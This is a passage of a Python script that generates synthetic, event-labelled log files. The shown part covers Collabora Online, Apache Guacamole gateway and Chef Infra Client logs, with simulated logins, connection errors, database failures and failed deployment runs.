                                 ("unotools.misc", f"unknown language tag '{g.c(['en-001', 'de-CH-1996'])}'", "unotools/source/misc/syslocale.cxx:151", "lo_unknown_language_tag")])
        lo(area, msg, ev, fl)

    def convert():
        wsd("websrv_poll", "WRN", f"convert-to: Requesting address is denied: {g.ip('pub')}", "wsd/COOLWSD.cpp:4127", "convert_denied")

    def restart():
        wsd("coolwsd", "WRN", "Stopping coolwsd.", "wsd/COOLWSD.cpp:5600", "stopping")
        co("frk", 18, 18, "forkit", "WRN", "ForKit: termination flag set, exiting.", "kit/ForKit.cpp:820", "forkit_exiting")
        L.t += dt.timedelta(seconds=g.num(5, 30))
        startup()

    startup()
    ev = [(12, not_allowed), (12, checkfileinfo), (22, socket_err), (5, modified), (4, save_fail), (1.2, kit_killed), (30, lo_warn), (3, convert), (0.3, restart)]
    return L.run(slowed(L, ev, 80), None)


# 19 --------------------------------------------------------------- Apache Guacamole 1.5.5 web application (the guacamole/guacamole image: Tomcat 9 with PostgreSQL and TOTP extensions)
#   of a company's remote-desktop gateway, `docker logs guacamole`: Tomcat's JULI lines "01-Dec-2026 10:00:00.123 INFO [main] class.method message"
#   at start-up and the web application's logback lines "hh:mm:ss.mmm [thread] LEVEL logger - message" (time of day only, abbreviated logger);
#   logins and failed logins, TOTP failures, connections opened and closed with their duration, guacd refusing or dropping tunnels, a database
#   error with its MyBatis cause lines, restarts
@checked
def log_guacamole(seed):
    L = Log("guacamole_docker_logs", seed, "tod", True, True)
    g = L.g
    USERS = ["alice", "bob.schmidt", "c.dupont", "dwright", "e.novak", "fatima.k", "g.rossi", "helpdesk01", "ivan.p", "admin"]
    CONNS = [("12", "SRV-FILE01 (RDP)"), ("14", "SRV-APP02 (RDP)"), ("15", "build-linux-01 (SSH)"), ("19", "DEV-WKS-07 (RDP)"), ("23", "db-prod-01 (SSH)"), ("31", "Lab VNC")]
    st = {"active": {}}

    def tc(lv, cls, meth, msg, ev):
        L.t += ms(g, 0, 200)
        L.emit(f"{L.t:%d-%b-%Y %H:%M:%S}.{ms3(L.t)} {lv} [main] {cls}.{meth} {msg}", ev, lv, cls)

    def lb(th, lv, logger, msg, ev, cont=()):
        L.t += ms(g, 0, 200)
        L.emit(f"{L.t:%H:%M:%S}.{ms3(L.t)} [{th}] {lv:<5} {logger} - {msg}", ev, lv, logger)
        for text, cev in cont:
            L.emit(text, cev, lv, logger)

    def exe():
        return f"http-nio-8080-exec-{g.num(1, 10)}"

    def client():
        return g.c([f"10.20.{g.num(1, 9)}.{g.num(10, 250)}", f"10.20.{g.num(1, 9)}.{g.num(10, 250)}, 172.18.0.1"])

    def startup():
        V = "org.apache.catalina.startup.VersionLoggerListener"
        for k, v in [("Server version name", "Apache Tomcat/9.0.98"), ("Server built", "Dec 6 2026 19:52:00 UTC"), ("Server version number", "9.0.98.0"), ("OS Name", "Linux"),
                     ("OS Version", "6.1.0-28-amd64"), ("Architecture", "amd64"), ("Java Home", "/opt/java/openjdk"), ("JVM Version", "11.0.25+9"), ("JVM Vendor", "Eclipse Adoptium"),
                     ("CATALINA_BASE", "/usr/local/tomcat"), ("CATALINA_HOME", "/usr/local/tomcat")]:
            tc("INFO", V, "log", f"{k + ':':<25}{v}", "version_logger")
        tc("INFO", "org.apache.catalina.core.AprLifecycleListener", "lifecycleEvent", "The Apache Tomcat Native library which allows using OpenSSL was not found on the java.library.path: "
                                                                                      "[/usr/java/packages/lib:/usr/lib64:/lib64:/lib:/usr/lib]", "apr_not_found")
        tc("INFO", "org.apache.coyote.AbstractProtocol", "init", "Initializing ProtocolHandler [\"http-nio-8080\"]", "protocol_init")
        tc("INFO", "org.apache.catalina.startup.Catalina", "load", f"Server initialization in [{g.num(400, 900)}] milliseconds", "server_init")
        tc("INFO", "org.apache.catalina.core.StandardService", "startInternal", "Starting service [Catalina]", "starting_service")
        tc("INFO", "org.apache.catalina.core.StandardEngine", "startInternal", "Starting Servlet engine: [Apache Tomcat/9.0.98]", "starting_engine")
        tc("INFO", "org.apache.catalina.startup.HostConfig", "deployWAR", "Deploying web application archive [/usr/local/tomcat/webapps/ROOT.war]", "deploying_war")
        L.t += ms(g, 1000, 4000)
        lb("main", "INFO", "o.a.g.environment.LocalEnvironment", "GUACAMOLE_HOME is \"/etc/guacamole\".", "guacamole_home")
        lb("main", "INFO", "o.a.g.GuacamoleServletContextListener", "Read configuration parameters from \"/etc/guacamole/guacamole.properties\".", "read_properties")
        lb("main", "INFO", "o.a.g.rest.auth.HashTokenSessionMap", "Sessions will expire after 60 minutes of inactivity.", "sessions_expire")
        lb("main", "INFO", "o.a.g.extension.ExtensionModule", "Extension \"PostgreSQL Authentication\" (postgresql) loaded.", "extension_loaded")
        lb("main", "INFO", "o.a.g.extension.ExtensionModule", "Extension \"TOTP TFA\" (totp) loaded.", "extension_loaded")
        lb("main", "INFO", "o.a.g.extension.ExtensionModule", "Extension \"Branding\" (acme-branding) loaded.", "extension_loaded")
        lb("main", "WARN", "o.a.g.extension.ExtensionModule", "The \"acme-branding\" extension is not compatible with this version of Guacamole (1.5.5). It may not work as expected.",
           "extension_incompatible")
        tc("INFO", "org.apache.jasper.servlet.TldScanner", "scanJars", "At least one JAR was scanned for TLDs yet contained no TLDs. Enable debug logging for this logger for a complete "
                                                                       "list of JARs that were scanned but no TLDs were found in them. Skipping unneeded JARs during scanning can improve "
                                                                       "startup time and JSP compilation time.", "tld_scanner")
        tc("INFO", "org.apache.catalina.startup.HostConfig", "deployWAR", f"Deployment of web application archive [/usr/local/tomcat/webapps/ROOT.war] has finished in [{g.num(3000, 9000):,}] ms",
           "deployment_finished")
        tc("INFO", "org.apache.coyote.AbstractProtocol", "start", "Starting ProtocolHandler [\"http-nio-8080\"]", "protocol_start")
        tc("INFO", "org.apache.catalina.startup.Catalina", "start", f"Server startup in [{g.num(4000, 10000)}] milliseconds", "server_startup")

    def login():
        u = g.c(USERS)
        th = exe()
        if g.r.random() < 0.82:
            lb(th, "INFO", "o.a.g.r.auth.AuthenticationService", f"User \"{u}\" successfully authenticated from {client()}.", "auth_success")
        else:
            if g.r.random() < 0.5:
                lb(th, "WARN", "o.a.g.r.auth.AuthenticationService", f"Authentication attempt from {client()} for user \"{g.c(USERS + ['administrator', 'test', 'guest'])}\" failed.", "auth_failed")
            else:
                lb(th, "WARN", "o.a.g.r.auth.AuthenticationService", f"Authentication attempt from {client()} for user \"{u}\" failed.", "auth_failed")
                lb(th, "INFO", "o.a.g.a.t.user.UserVerificationService", f"Verification attempt for user \"{u}\" failed. Code has already been used or is not valid.", "totp_failed") \
                    if g.r.random() < 0.5 else None

    def connect():
        u = g.c(USERS)
        cid, name = g.c(CONNS)
        tun = g.uuid()
        if g.r.random() < 0.08:
            lb(exe(), "ERROR", "o.a.g.w.GuacamoleWebSocketTunnelEndpoint", "Creation of WebSocket tunnel to guacd failed: java.net.ConnectException: Connection refused (Connection refused)",
               "tunnel_creation_failed")
            lb(exe(), "ERROR", "o.a.g.w.GuacamoleWebSocketTunnelEndpoint", "Connection to guacd failed.", "guacd_connection_failed") if g.r.random() < 0.5 else None
            return
        lb(exe(), "INFO", "o.a.g.tunnel.TunnelRequestService", f"User \"{u}\" connected to connection \"{cid}\".", "user_connected")
        st["active"][tun] = (u, cid, L.t)

    def disconnect():
        if not st["active"]:
            return connect()
        tun = g.c(sorted(st["active"]))
        u, cid, t0 = st["active"].pop(tun)
        th = f"Thread-{g.num(20, 900)}"
        if g.r.random() < 0.1:
            lb(th, "WARN", "o.a.g.w.GuacamoleWebSocketTunnelEndpoint", f"Connection to guacd terminated abnormally: {g.c(['Connection reset', 'Read timed out', 'Socket closed'])}", "guacd_terminated")
        if g.r.random() < 0.06:
            lb(th, "WARN", "o.a.g.protocol.ConfiguredGuacamoleSocket", f"Guacamole protocol violation. Perhaps the version of guacd is incompatible with this version of the web application?",
               "protocol_violation")
        lb(th, "INFO", "o.a.g.tunnel.TunnelRequestService", f"User \"{u}\" disconnected from connection \"{cid}\". Duration: {int((L.t - t0).total_seconds() * 1000)} milliseconds",
           "user_disconnected")

    def upstream():
        lb(exe(), "INFO", "o.a.g.w.GuacamoleWebSocketTunnelEndpoint", *g.c([("Connection closed by client.", "closed_by_client"), ("Upstream timeout.", "upstream_timeout"),
                                                                          (f"Connection \"{g.c(CONNS)[0]}\" closed by remote desktop server.", "closed_by_server")])) if g.r.random() < 0.3 else \
            lb(exe(), "WARN", "o.a.g.r.auth.AuthenticationService", f"Attempt to use expired or invalid token from {client()}.", "invalid_token")

    def db_error():
        lb(exe(), "ERROR", "o.a.g.rest.RESTExceptionMapper", "Unexpected internal error: ", "rest_unexpected_error", [
            ("### Error querying database.  Cause: org.postgresql.util.PSQLException: This connection has been closed.", "mybatis_error_querying"),
            ("### The error may exist in org/apache/guacamole/auth/jdbc/user/UserMapper.xml", "mybatis_may_exist"),
            ("### The error may involve org.apache.guacamole.auth.jdbc.user.UserMapper.selectOne", "mybatis_may_involve"),
            ("### The error occurred while executing a query", "mybatis_occurred"),
            ("### SQL: SELECT guacamole_entity.entity_id, guacamole_user.user_id, guacamole_entity.name, password_hash, password_salt, password_date, disabled, expired, access_window_start, "
             "access_window_end, valid_from, valid_until, timezone, full_name, email_address, organization, organizational_role, MAX(start_date) AS last_active FROM guacamole_user JOIN "
             "guacamole_entity ON guacamole_user.entity_id = guacamole_entity.entity_id LEFT JOIN guacamole_user_history ON guacamole_user_history.user_id = guacamole_user.user_id WHERE "
             "guacamole_entity.type = 'USER'::guacamole_entity_type AND guacamole_entity.name = ? GROUP BY guacamole_user.user_id, guacamole_entity.entity_id", "mybatis_sql"),
            ("### Cause: org.postgresql.util.PSQLException: This connection has been closed.", "mybatis_cause")])

    def restart():
        tc("INFO", "org.apache.catalina.core.StandardServer", "await", "A valid shutdown command was received via the shutdown port. Stopping the Server instance.", "shutdown_command")
        tc("INFO", "org.apache.coyote.AbstractProtocol", "pause", "Pausing ProtocolHandler [\"http-nio-8080\"]", "protocol_pause")
        tc("INFO", "org.apache.catalina.core.StandardService", "stopInternal", "Stopping service [Catalina]", "stopping_service")
        tc("INFO", "org.apache.coyote.AbstractProtocol", "stop", "Stopping ProtocolHandler [\"http-nio-8080\"]", "protocol_stop")
        tc("INFO", "org.apache.coyote.AbstractProtocol", "destroy", "Destroying ProtocolHandler [\"http-nio-8080\"]", "protocol_destroy")
        L.t += dt.timedelta(seconds=g.num(10, 60))
        st["active"].clear()
        startup()

    startup()
    ev = [(30, login), (22, connect), (20, disconnect), (8, upstream), (0.6, db_error), (0.25, restart)]
    return L.run(slowed(L, ev, 120), None)


# 20 --------------------------------------------------------------- Chef Infra Client 18.5 as a daemon (`chef-client -i 1800 -s 300`, log_level :info) on a web server of a shop
#   (Ubuntu 22.04, roles base and webserver), /var/log/chef/client.log over some days: "[yyyy-mm-ddThh:mm:ss+00:00] LEVEL: message"; each run's
#   banner, run list, cookbook sync, resources updated (templates backed up and rewritten, services restarted, packages installed), runs that
#   change nothing, a failing execute resource whose FATAL message spans lines ("---- Begin output of ... ----", STDOUT:, STDERR:), deprecation
#   warnings, the splay sleeps between runs
@checked
def log_chef(seed):
    L = Log("chef_client_log", seed, "full", True, False)
    g = L.g
    NODE = "web-03.shop.acme.net"
    COOKBOOKS = [("base", "2.3.1"), ("chrony", "1.4.0"), ("users", "8.1.2"), ("nginx", "12.2.0"), ("acme_app", "1.14.2"), ("logrotate", "3.0.1"), ("datadog", "4.22.0")]
    st = {"pid": g.num(1000, 9000), "broken": False, "run": 0}

    def c(lv, msg, ev, cont=()):
        L.t += ms(g, 0, 400)
        L.emit(f"[{L.t:%Y-%m-%dT%H:%M:%S}+00:00] {lv}: {msg}", ev, lv)
        for text, cev in cont:
            L.emit(text, cev, lv)

    def daemon_start():
        c("INFO", "Started Chef Infra Client in daemon mode", "daemon_mode")
        c("INFO", f"Chef-client pid: {st['pid']}", "pid")

    def run():
        st["run"] += 1
        sp = g.num(0, 300)
        c("INFO", f"Splay sleep {sp} seconds", "splay_sleep")
        L.t += dt.timedelta(seconds=sp)
        c("INFO", "*** Chef Infra Client 18.5.0 ***", "banner")
        c("INFO", "Platform: x86_64-linux", "platform")
        c("INFO", "Chef-client pid: " + str(st["pid"]), "pid")
        c("INFO", "Targeting node: " + NODE, "targeting_node")
        c("INFO", f"Run List is [role[base], role[webserver]]", "run_list")
        c("INFO", f"Run List expands to [base::default, chrony::default, users::sysadmins, nginx::default, acme_app::deploy, logrotate::default, datadog::dd-agent]", "run_list_expands")
        c("INFO", f"Starting Chef Infra Client Run for {NODE}", "starting_run")
        c("INFO", "Running start handlers", "start_handlers")
        c("INFO", "Start handlers complete.", "start_handlers_complete")
        L.t += ms(g, 500, 4000)
        c("INFO", "Loading cookbooks [" + ", ".join(f"{n}@{v}" for n, v in COOKBOOKS) + "]", "loading_cookbooks")
        if g.r.random() < 0.25:
            for f in g.r.sample(["acme_app/recipes/deploy.rb", "acme_app/templates/default/app.env.erb", "nginx/templates/default/site.conf.erb", "base/attributes/default.rb",
                                 "users/recipes/sysadmins.rb", "datadog/templates/default/datadog.yaml.erb"], g.num(1, 3)):
                c("INFO", f"Storing updated cookbooks/{f} in the cache.", "storing_updated")
        if g.r.random() < 0.3:
            c("WARN", "Deprecated features used!", "deprecated_used")
            L.emit("  Resource acme_app_release from a cookbook is overriding the resource from the client. Please upgrade your cookbook or remove the cookbook from your run_list before "
                   "the next major release of Chef. at 1 location:", "deprecated_detail", "WARN")
            L.emit("    - /var/chef/cache/cookbooks/acme_app/resources/release.rb:1:in `class_from_file'", "deprecated_location", "WARN")
            L.emit("   See https://docs.chef.io/deprecations_resource_overrides/ for further details.", "deprecated_see", "WARN")
        updated = 0
        if g.r.random() < 0.35:
            for res, act in g.r.sample([("template[/etc/nginx/sites-available/shop.conf]", "template"), ("template[/srv/shop/shared/.env]", "template"),
                                       ("template[/etc/datadog-agent/datadog.yaml]", "template"), ("package[nginx]", "package"), ("package[htop]", "package"),
                                       ("user[deploy]", "user"), ("file[/etc/logrotate.d/shop]", "file"), ("git[/srv/shop/releases]", "git")], g.num(1, 3)):
                updated += 1
                path = res.split("[", 1)[1].rstrip("]")
                if act in ("template", "file"):
                    c("INFO", f"{res} backed up to /var/chef/backup{path}.chef-{L.t:%Y%m%d%H%M%S}.{g.num(100000, 999999)}", "backed_up")
                    c("INFO", f"{res} updated file contents {path}", "updated_file_contents")
                    if "nginx" in path or "datadog" in path:
                        svc = "nginx" if "nginx" in path else "datadog-agent"
                        c("INFO", f"{res} sending {'reload' if svc == 'nginx' else 'restart'} action to service[{svc}] (delayed)", "sending_action")
                elif act == "package":
                    c("INFO", f"{res} installed {path} at {g.c(['1.18.0-6ubuntu14.5', '3.0.5-7build2', '1.18.0-6ubuntu14.6'])}", "package_installed") if g.r.random() < 0.5 else \
                        c("INFO", f"{res} upgraded {path} to {g.c(['1.18.0-6ubuntu14.6', '3.0.5-7build3'])}", "package_upgraded")
                elif act == "user":
                    c("INFO", f"{res} altered", "user_altered")
                else:
                    c("INFO", f"{res} synchronizing git to {g.c(['release-2026.12.1', 'release-2026.12.2', 'main'])} ({g.hx(40)})", "git_sync")
            if g.r.random() < 0.5:
                c("INFO", "Processing service[nginx] action reload (nginx::default line 48)", "processing_service")
                c("INFO", "service[nginx] reloaded", "service_reloaded")
        if st["broken"] or g.r.random() < 0.06:
            st["broken"] = g.r.random() < 0.6
            fail(updated)
            return
        L.t += dt.timedelta(seconds=g.num(10, 60))
        c("INFO", f"Chef Infra Client Run complete in {g.r.uniform(12, 90):.6f} seconds", "run_complete")
        c("INFO", "Running report handlers", "report_handlers")
        c("INFO", "Report handlers complete", "report_handlers_complete")
        if g.r.random() < 0.15:
            c("WARN", "Could not find previously defined chef_handler[Chef::Handler::Datadog]", "handler_missing")

    def fail(updated):
        cmd = "bundle exec rake db:migrate"
        L.t += dt.timedelta(seconds=g.num(10, 40))
        c("INFO", "Processing execute[migrate database] action run (acme_app::deploy line 88)", "processing_execute")
        L.t += dt.timedelta(seconds=g.num(2, 30))
        c("INFO", "Running queued delayed notifications before re-raising exception", "delayed_notifications")
        c("ERROR", "Running exception handlers", "exception_handlers")
        c("ERROR", "Exception handlers complete", "exception_handlers_complete")
        c("FATAL", "Stacktrace dumped to /var/chef/cache/chef-stacktrace.out", "stacktrace_dumped")
        c("FATAL", "--------------------------------------------", "fatal_rule")
        c("FATAL", "Please provide the contents of the stacktrace.out file if you file a bug report", "bug_report_hint")
        c("FATAL", "--------------------------------------------", "fatal_rule")
        err = g.c([("", "rake aborted!", "ActiveRecord::ConnectionNotEstablished: connection to server at \"10.0.3.5\", port 5432 failed: Connection refused"),
                   ("== 20261201093012 AddIndexToOrders: migrating ===============================", "rake aborted!",
                    "StandardError: An error has occurred, this and all later migrations canceled:")])
        c("FATAL", f"Mixlib::ShellOut::ShellCommandFailed: execute[migrate database] (acme_app::deploy line 88) had an error: Mixlib::ShellOut::ShellCommandFailed: "
                   f"Expected process to exit with [0], but received '1'", "shell_command_failed",
          [(f"---- Begin output of {cmd} ----", "begin_output"), (f"STDOUT: {err[0]}", "stdout_line"), (f"STDERR: {err[1]}", "stderr_line"), (err[2], "output_line"),
           ("", "output_blank"), ("Tasks: TOP => db:migrate", "output_line"), ("(See full trace by running task with --trace)", "output_line"),
           (f"---- End output of {cmd} ----", "end_output"), (f"Ran {cmd} returned 1", "ran_returned")])

    daemon_start()
    while len(L.rows) < N_LINES:
        run()
        L.t += dt.timedelta(seconds=1800 + g.num(-60, 60))
        if g.r.random() < 0.01:
            c("INFO", "SIGTERM received, stopping", "sigterm")
            L.t += dt.timedelta(minutes=g.num(1, 30))
            st["pid"] = g.num(1000, 9000)
            daemon_start()
    del L.rows[N_LINES:]
    return L


LOGS = [log_bigip, log_exos, log_brocade, log_lustre, log_arangodb, log_informix, log_artemis, log_ats, log_azure_agent, log_docker_desktop,
        log_arma3, log_domoticz, log_gatk_lsf, log_boinc, log_cowrie, log_flutter, log_ecs_agent, log_collabora, log_guacamole, log_chef]


if __name__ == "__main__":
    main(LOGS, WORK)
